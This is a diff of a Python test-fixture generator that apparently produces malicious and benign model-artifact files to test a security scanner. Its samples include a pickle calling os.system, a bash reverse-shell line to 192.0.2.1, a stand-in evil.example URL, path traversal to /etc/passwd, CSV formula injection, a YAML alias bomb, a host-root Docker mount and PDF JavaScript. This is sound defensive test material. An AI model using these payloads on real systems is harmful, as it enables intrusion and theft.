@@ -6,7 +6,10 @@ shapes are of real formats and of real attacks on them, not of anybody's fixture
 
 import base64
 import json
+from pathlib import Path
 
+# Settings of an agent of Stable Baselines, as its `save` writes them.
+AGENTS = Path(__file__).resolve().parents[2] / "crates/artifact/tests/documents"
 PICKLE = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."
 EVIL = "http://evil.example/x"
 SHELL = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
@@ -150,6 +153,7 @@ def encoded():
     yield "base64.toml", f'weights = "{whole}"\n'.encode()
     yield "base64.txt", whole.encode()
     yield "program.txt", f"some words\n{program}\n".encode()
+    yield "agent/data", (AGENTS / "agent_evil.json").read_bytes()
     yield "elf.json", text({"blob": base64.b64encode(b"\x7fELF\x02\x01\x01" + bytes(57)).decode()})
 
 
@@ -199,6 +203,16 @@ def servers():
     yield "index/model.safetensors.index.json", text({"weight_map": {"a": "../../etc/passwd"}})
     yield "tfjs/model.json", text({"format": "layers-model", "weightsManifest": [{"paths": ["http://evil.example/x.bin"], "weights": []}]})
     yield "genai/genai_config.json", text({"model": {"custom_ops_library": "evil.so"}})
+    yield "kernel/config.json", text({"model_type": "x", "_attn_implementation": "somebody/kernel"})
+    yield "path/tokenizer_config.json", text({"vocab_file": "/etc/passwd"})
+    yield "formula.csv", b"name,value\na,=cmd|'/C calc'!A0\n"
+    yield "aliases.yaml", b"".join(b"%c: &%c [%s]\n" % (98 + n, 98 + n, b", ".join([b"*%c" % (97 + n)] * 9)) for n in range(8)).join([b"a: &a [x]\n", b""])
+    yield "mount/docker-compose.yml", b"services:\n  x:\n    image: python\n    volumes:\n      - /:/host\n"
+    yield "schema.parquet", b"PAR1" + bytes(64) + b"ARROW:schema" + base64.b64encode(bytes(8) + b"arrow.py_extension_type" + bytes(8)) + b"PAR1"
+    yield "behind.png", b"\x89PNG\r\n\x1a\n" + b"\0\0\0\0IEND\xaeB`\x82" + PICKLE[:2] + PICKLE[2:]
+    yield "script.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n"
+    yield "llama.llamafile", b"MZqFpD='\n" + bytes(64)
+    yield "weights_exe.bin", b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(32)
     yield "rows.jsonl", b'{"a": 1}\n{"py/object": "os.system"}\n'
 
 
@@ -391,8 +405,17 @@ def served():
     yield "lightgbm.txt", b"tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=1\nobjective=binary sigmoid:1\nfeature_names=age income\nfeature_infos=[0:1] [0:2]\ntree_sizes=10\n\nTree=0\nnum_leaves=2\nsplit_feature=0\nthreshold=0.5\nleaf_value=0.1 0.2\n\nend of trees\n\nparameters:\n[boosting: gbdt]\n[data: /home/me/train.csv]\nend of parameters\n"
     yield "xgboost_dump.txt", b"booster[0]:\n0:[f0<0.5] yes=1,no=2,missing=1\n\t1:leaf=0.1\n\t2:leaf=0.2\n"
     yield "good.pmml", b'<?xml version="1.0"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="us"><Extension name="user" value="me" extender="R"/><Application name="JPMML" version="1"/><Timestamp>2026-01-01</Timestamp></Header><DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary></PMML>'
+    yield "paper.pdf", b"%PDF-1.5\n%\xbf\xf7\xa2\xfe\n1 0 obj << /Type /Catalog /OpenAction [2 0 R /Fit] >> endobj\n"
+    yield "sample.mp4", b"\0\0\0\x18ftypmp42" + bytes(64)
+    yield "speech.mp3", b"ID3\x03" + bytes(64)
+    yield "favicon.ico", b"\0\0\1\0\1\0" + bytes(64)
+    yield "chroma.sqlite3", b"SQLite format 3\0" + bytes(84)
+    yield "table.csv", b"name,value\na,-1\nb,=A1+2\n"
+    yield "picture.png", b"\x89PNG\r\n\x1a\n" + b"\0\0\0\0IEND\xaeB`\x82"
+    yield "ggml-base.bin", b"lmgg" + bytes(64)
     yield "chart.html", b'<!DOCTYPE html><html><head><script src="https://cdn.plot.ly/plotly-2.35.2.min.js"></script></head><body><div id="x"></div><script>Plotly.newPlot("x", []);</script></body></html>'
     yield "kohya.safetensors", safetensors({"format": "pt", "ss_tag_frequency": json.dumps({"img": {"1girl": 10, "curl": 3}}), "modelspec.title": "x", "modelspec.description": "<b>A</b> model", "modelspec.thumbnail": "data:image/jpeg;base64," + base64.b64encode(b"\xff\xd8\xff\xe0" + bytes(range(256))).decode()})
+    yield "agent/data", (AGENTS / "agent.json").read_bytes()
     yield "digests.json", text({"sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "data": base64.b64encode(b"only some words about nothing at all").decode()})
 
 
